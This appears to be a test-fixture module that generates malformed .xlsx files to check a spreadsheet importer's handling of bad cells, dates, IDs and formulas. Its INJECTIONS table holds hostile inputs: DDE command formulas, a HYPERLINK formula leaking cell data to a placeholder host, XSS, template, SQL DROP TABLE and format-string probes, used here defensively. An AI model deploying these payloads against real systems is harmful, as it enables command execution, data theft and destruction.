"""Cells that hold what no one should trust, and texts that would like to be run."""

from corpus.case import (
    CARL,
    HEADER,
    SOUND,
    BadFile,
    Raw,
    bad_row,
    faulty,
    refused,
    safe,
    sheet,
    with_row,
    xlsx,
)

LONG = 40_000
HUGE = 10 << 20
FORM, HOURS, DAY = "sheet.bad_id_form", "sheet.not_hours", "sheet.not_a_date"
BROKEN = "sheet.error_cell"
EXCEL_DAY = 46085  # 2026-03-04 counted from 1900
EXCEL_DAY_1904 = EXCEL_DAY - 1462
STYLES = (
    '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<fonts count="1"><font/></fonts><fills count="1"><fill/></fills>'
    '<borders count="1"><border/></borders><cellStyleXfs count="1"><xf/></cellStyleXfs>'
    '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/></cellXfs>'
    "</styleSheet>"
)
INJECTIONS = {
    "dde": "=cmd|'/c calc'!A1",
    "plus": "+1+cmd|'/c calc'!A1",
    "minus": "-2+3+cmd|'/c calc'!A1",
    "at": "@SUM(1+1)*cmd|'/c calc'!A1",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "full width": "＝1＋1",
    "link": '=HYPERLINK("http://example.invalid?"&A1,"按我")',
    "markup": "<script>alert(1)</script>",
    "template": "{{ settings.SECRET_KEY }}{% load x %}",
    "sql": "'; DROP TABLE staff; --",
    "format": "%s%n{0.__class__}",
}


def third(**changed: object) -> bytes:
    return with_row(**changed)


def formula(expression: str, value: str | None, kind: str = "str") -> Raw:
    kept = "" if value is None else f"<v>{value}</v>"
    return Raw(f"<f>{expression}</f>{kept}", f't="{kind}"' if kind else "")


def typed_day(serial: int, *, workbook: str = "") -> bytes:
    row = bad_row(day=Raw(f"<v>{serial}</v>", 's="1"'))
    book = sheet([HEADER, SOUND[0], row, SOUND[1]])
    return xlsx(book, workbook=workbook, more=with_styles())


def with_styles() -> dict[str, bytes]:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    place = "http://schemas.openxmlformats.org/package/2006/relationships"
    links = (
        f'<Relationships xmlns="{place}">'
        f'<Relationship Id="rId1" Type="{kind}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="rId9" Type="{kind}/styles" Target="styles.xml"/></Relationships>'
    )
    return {"xl/styles.xml": STYLES.encode(), "xl/_rels/workbook.xml.rels": links.encode()}


def rich_name() -> bytes:
    return third(name=Raw("<is><r><t>柯三</t></r><r><t>立</t></r></is>", 't="inlineStr"'))


def injected(text: str) -> bytes:
    return third(title=text)


def typed_hours() -> bytes:
    row = bad_row(hours=Raw(f"<v>{EXCEL_DAY}</v>", 's="1"'))
    return xlsx(sheet([HEADER, SOUND[0], row, SOUND[1]]), more=with_styles())


FILES: tuple[BadFile, ...] = (
    faulty("cells", "long text.xlsx", lambda: third(title="長" * LONG), "sheet.text_too_long"),
    faulty(
        "cells",
        "ten megabytes.xlsx",
        lambda: third(title="長" * (HUGE // 3)),
        "sheet.text_too_long",
    ),
    safe("cells", "rich text.xlsx", rich_name, kept=3),
    safe(
        "cells",
        "formula with value.xlsx",
        lambda: third(name=formula("A1&amp;B1", "柯三立")),
        kept=3,
    ),
    faulty(
        "cells",
        "formula without value.xlsx",
        lambda: third(hours=formula("1+1", None, "")),
        "sheet.formula_without_value",
        "sheet.missing_value",
    ),
    faulty("cells", "REF.xlsx", lambda: third(hours=Raw("<v>#REF!</v>", 't="e"')), BROKEN),
    faulty("cells", "DIV0.xlsx", lambda: third(hours=formula("1/0", "#DIV/0!", "e")), BROKEN),
    faulty("cells", "NA in the id.xlsx", lambda: third(id=Raw("<v>#N/A</v>", 't="e"')), BROKEN),
    faulty("cells", "true hours.xlsx", lambda: third(hours=True), HOURS),
    safe("cells", "typed day 1900.xlsx", lambda: typed_day(EXCEL_DAY), kept=3),
    safe(
        "cells",
        "typed day 1904.xlsx",
        lambda: typed_day(EXCEL_DAY_1904, workbook='<workbookPr date1904="1"/>'),
        kept=3,
    ),
    faulty("cells", "day as bare number.xlsx", lambda: third(day=EXCEL_DAY), DAY),
    faulty("cells", "typed day as hours.xlsx", typed_hours, HOURS),
    safe("cells", "hours as text.xlsx", lambda: third(hours="2"), kept=3),
    safe("cells", "day as number.xlsx", lambda: third(day=1150304), kept=3),
    faulty("cells", "id as number.xlsx", lambda: third(id=100007020), FORM),
    faulty("cells", "id in scientific notation.xlsx", lambda: third(id="1.23E+09"), FORM),
    faulty("cells", "id without its letter.xlsx", lambda: third(id=CARL[1:]), FORM),
    safe("cells", "code as number.xlsx", lambda: third(code=1234), kept=3),
    refused(
        "cells",
        "cell in a cell.xlsx",
        lambda: third(title=Raw("<c><v>1</v>", "")),
        "file.unreadable",
    ),
    *(
        safe("injection", f"{name}.xlsx", lambda text=text: injected(text), kept=3)
        for name, text in INJECTIONS.items()
    ),
)
